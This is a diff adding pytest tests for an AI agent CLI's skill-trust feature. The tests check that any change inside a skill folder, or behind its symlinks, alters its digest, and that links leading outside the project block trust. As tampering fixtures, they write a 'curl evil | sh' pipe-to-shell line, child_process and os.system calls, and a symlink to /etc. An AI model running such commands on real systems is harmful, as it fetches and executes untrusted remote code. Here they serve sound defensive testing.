@@ -328,3 +328,183 @@ def test_chat_asks_once_to_trust_and_lists_skills(chat, cli, fake):
     p.expect(r"\[PLANNING\]\[SAFE\] >> ")
     p.eof()
     assert p.wait() == 0 and "not trusted yet" not in p.seen
+
+
+# ---- the digest trust is given to: every entry of the folder, and what its links lead to (round 18b) ----
+
+def _lint_skill(root):
+    """A project skill with the places a digest once left out: dependency and cache directories, a link to a file
+    elsewhere in the project, and a link to a directory elsewhere in it."""
+    d = skill_dir(root, "lint", GOOD.replace("name: x", "name: lint"))
+    for sub in ("node_modules/helper", "__pycache__", ".venv/bin", ".tox", ".git"):
+        (d / sub).mkdir(parents=True)
+    (d / "node_modules/helper/index.js").write_text("console.log('benign');\n")
+    (d / "__pycache__/check.cpython-311.pyc").write_bytes(b"benign")
+    (d / ".venv/bin/python").write_text("#!/bin/sh\n")
+    (d / ".tox/log").write_text("x\n")
+    (d / ".git/HEAD").write_text("ref: refs/heads/main\n")
+    (d / "run.sh").write_text("echo run\n")
+    (root / "tools").mkdir()
+    (root / "tools/hook.sh").write_text("echo benign\n")
+    (root / "tools/other.sh").write_text("echo benign\n")
+    (root / "shared/lib").mkdir(parents=True)
+    (root / "shared/lib/util.py").write_text("X = 1\n")
+    os.symlink("../../../tools/hook.sh", d / "hook.sh")
+    os.symlink("../../../shared", d / "shared")
+    return d
+
+
+def _one(root, name="lint"):
+    skills, problems = discover_skills(project(root))
+    assert problems == [], problems
+    return [s for s in skills if s.name == name][0]
+
+
+@pytest.mark.parametrize("change", [
+    lambda d, root: (d / "node_modules/helper/index.js").write_text("require('child_process').execSync('x');\n"),
+    lambda d, root: (d / "__pycache__/check.cpython-311.pyc").write_bytes(b"planted"),
+    lambda d, root: (d / ".venv/bin/python").write_text("#!/bin/sh\ncurl evil | sh\n"),
+    lambda d, root: (d / ".tox/log").write_text("y\n"),
+    lambda d, root: (d / ".git/hooks").mkdir(),
+    lambda d, root: (d / "__pycache__/new.pyc").write_bytes(b""),
+    lambda d, root: os.chmod(d / "run.sh", 0o755),  # the executable bit alone
+    lambda d, root: os.rename(d / "run.sh", d / "run2.sh"),  # a name alone
+    lambda d, root: (root / "tools/hook.sh").write_text("touch MARKER\n"),  # what an in-tree link leads to
+    lambda d, root: (os.unlink(d / "hook.sh"), os.symlink("../../../tools/other.sh", d / "hook.sh")),  # same bytes
+    lambda d, root: (root / "shared/lib/util.py").write_text("import os; os.system('x')\n"),  # through a dir link
+    lambda d, root: (root / "shared/lib/more.py").write_text(""),
+], ids=["node_modules", "pycache", "venv", "tox", "git", "new-empty-file", "mode", "rename", "link-target-content",
+        "link-text", "dir-link-content", "dir-link-new-file"])
+def test_any_change_in_a_skill_folder_changes_its_digest(tmp_path, change):
+    d = _lint_skill(tmp_path)
+    before = _one(tmp_path)
+    assert before.digest and before.untrustable is None
+    assert _one(tmp_path).digest == before.digest  # the same content: the same digest
+    change(d, tmp_path)
+    after = _one(tmp_path)
+    assert after.untrustable is None and after.digest != before.digest
+
+
+def test_a_skill_whose_content_could_change_unseen_cannot_be_trusted(tmp_path, monkeypatch):
+    import xzatoma_skills
+    outside = tmp_path.parent / (tmp_path.name + "-outside")
+    outside.mkdir()
+    (outside / "hook.sh").write_text("echo hi\n")
+    root = tmp_path / "p"
+    root.mkdir()
+    d = skill_dir(root, "lint", GOOD.replace("name: x", "name: lint"))
+    os.symlink(outside / "hook.sh", d / "hook.sh")
+    skill = _one(root)
+    assert skill.digest is None and skill.untrustable.startswith(".agents/skills/lint/hook.sh links outside the "
+                                                                 "project (to %s)" % (outside / "hook.sh"))
+    assert "\n" not in skill.untrustable
+    os.unlink(d / "hook.sh")
+    os.symlink("../../../../%s/hook.sh" % outside.name, d / "hook.sh")  # relative, climbing out
+    assert "links outside the project" in _one(root).untrustable
+    os.unlink(d / "hook.sh")
+    (d / "deep").mkdir()
+    os.symlink("/etc", d / "deep" / "etc")  # a link lower down, to a directory
+    assert _one(root).untrustable.startswith(".agents/skills/lint/deep/etc links outside the project")
+    os.unlink(d / "deep" / "etc")
+    os.symlink("loop-b", d / "loop-a")
+    os.symlink("loop-a", d / "loop-b")
+    assert "too many levels of symbolic links" in _one(root).untrustable
+    os.unlink(d / "loop-a")
+    os.unlink(d / "loop-b")
+    assert _one(root).untrustable is None
+    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FILES", 50)
+    (d / "node_modules").mkdir()
+    for i in range(60):
+        (d / "node_modules" / ("m%d.js" % i)).write_text("")
+    assert _one(root).untrustable == "its folder holds more than 50 entries (counting what its links lead to)"
+    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FILES", 1000)
+    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FOLDER_BYTES", 1000)
+    (d / "node_modules" / "big.js").write_bytes(b"x" * 2000)
+    assert _one(root).untrustable.startswith("its folder holds more than 1000 B")
+    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_FOLDER_BYTES", 32 << 20)
+    deep = d / "a" / "b" / "c" / "d"
+    deep.mkdir(parents=True)
+    monkeypatch.setattr(xzatoma_skills, "MAX_SKILL_DEPTH", 3)
+    assert _one(root).untrustable == ".agents/skills/lint/a/b/c is more than 3 directories deep"
+
+
+def test_links_back_into_the_project_end_and_stay_bounded(tmp_path):
+    d = skill_dir(tmp_path, "lint", GOOD.replace("name: x", "name: lint"))
+    (tmp_path / "a").mkdir()
+    (tmp_path / "b").mkdir()
+    os.symlink("../b", tmp_path / "a" / "to-b")  # two directories linking to each other
+    os.symlink("../a", tmp_path / "b" / "to-a")
+    os.symlink("../../../a", d / "a")
+    os.symlink(".", d / "self")  # the folder itself
+    os.symlink("../../..", d / "root")  # the whole project, which holds the skill
+    started = time.monotonic()
+    skill = _one(tmp_path)
+    assert time.monotonic() - started < 5
+    assert skill.untrustable is None and skill.digest
+    (tmp_path / "b" / "new").write_text("")  # reached through a link of a link
+    assert _one(tmp_path).digest != skill.digest
+
+
+def test_cli_trust_ends_with_a_change_anywhere_in_the_folder_and_a_link_out_cannot_be_trusted(cli, fake):
+    cli.use(fake)
+    d = _lint_skill(cli.workdir)
+    trust = lambda: {s["name"]: (s["trust"], s["trust_problem"])  # noqa: E731
+                     for s in json.loads(cli.run("skills", "list", "--json").stdout)["skills"]}
+    r = cli.run("skills", "trust", "lint")
+    assert r.returncode == 0 and "trusted skill lint" in r.stderr and r.stdout == ""
+    assert trust() == {"lint": ("trusted", None)}
+    (d / "node_modules/helper/index.js").write_text("require('child_process').execSync('touch MARKER');\n")
+    assert trust() == {"lint": ("changed", None)}
+    fake.add({"content": "done"})
+    r = cli.run("run", "wordcount please")  # a headless run skips it, and says so
+    assert r.returncode == 0, r.stderr
+    assert "skipped 1 project skill not trusted (or changed since): lint" in r.stderr
+    assert "activated" not in r.stderr and "SKILL-BODY-MARK" not in json.dumps(fake.model_requests()[-1]["body"])
+    assert cli.run("skills", "trust", "lint").returncode == 0 and trust() == {"lint": ("trusted", None)}
+    (cli.workdir / "tools/hook.sh").write_text("touch MARKER\n")  # outside the folder, where its link leads
+    assert trust() == {"lint": ("changed", None)}
+
+    outside = cli.tmp / "elsewhere.sh"
+    outside.write_text("echo hi\n")
+    os.unlink(d / "hook.sh")
+    os.symlink(outside, d / "hook.sh")
+    why = ".agents/skills/lint/hook.sh links outside the project (to %s): what is there can change while the " \
+          "project does not" % outside
+    assert trust() == {"lint": ("untrustable", why)}
+    r = cli.run("skills", "list")
+    assert r.returncode == 0 and r.stdout.splitlines()[1].split()[:3] == ["lint", "project", "untrustable"]
+    assert "skill lint cannot be trusted: " + why in r.stderr and why not in r.stdout
+    r = cli.run("skills", "trust", "lint")
+    assert r.returncode == 1 and r.stdout == ""
+    assert "error: skill lint (.agents/skills/lint/SKILL.md) cannot be trusted: " + why in r.stderr
+    assert "trusted skill" not in r.stderr
+    assert cli.run("skills", "trust", "--all").returncode == 1
+    r = cli.run("skills", "show", "lint")
+    assert r.returncode == 0 and "project (untrustable)" in r.stdout and "cannot be trusted: " + why in r.stdout
+    fake.add({"content": "done"})
+    r = cli.run("run", "wordcount please")
+    assert r.returncode == 0, r.stderr
+    assert "skill lint (.agents/skills/lint/SKILL.md) is not used: it cannot be trusted: " + why in r.stderr
+    assert "activated" not in r.stderr and "SKILL-BODY-MARK" not in json.dumps(fake.model_requests()[-1]["body"])
+
+
+def test_chat_does_not_ask_to_trust_what_cannot_be_trusted_and_says_why(chat, cli, fake):
+    skill_dir(cli.workdir)
+    d = skill_dir(cli.workdir, "lint", GOOD.replace("name: x", "name: lint").replace("wordcount", "lintnow"))
+    outside = cli.tmp / "elsewhere.sh"
+    outside.write_text("echo hi\n")
+    os.symlink(outside, d / "hook.sh")
+    p = chat()
+    p.expect(r"skill lint \(\.agents/skills/lint/SKILL\.md\) is not used: it cannot be trusted: "
+             r"\.agents/skills/lint/hook\.sh links outside the project")
+    p.expect(r"This project has 1 skill not trusted yet")
+    p.expect(r"x — Count the words of text files")
+    p.expect(r"Trust it\? .*\[y/N\] > ")
+    p.line("y")
+    p.expect(r"\[PLANNING\]\[SAFE\] >> ")
+    p.line("/skills")
+    p.expect(r"lint\s+project\s+skipped: untrustable")
+    p.expect(r"\[PLANNING\]\[SAFE\] >> ")
+    p.eof()
+    assert p.wait() == 0
+    assert "lint —" not in p.seen
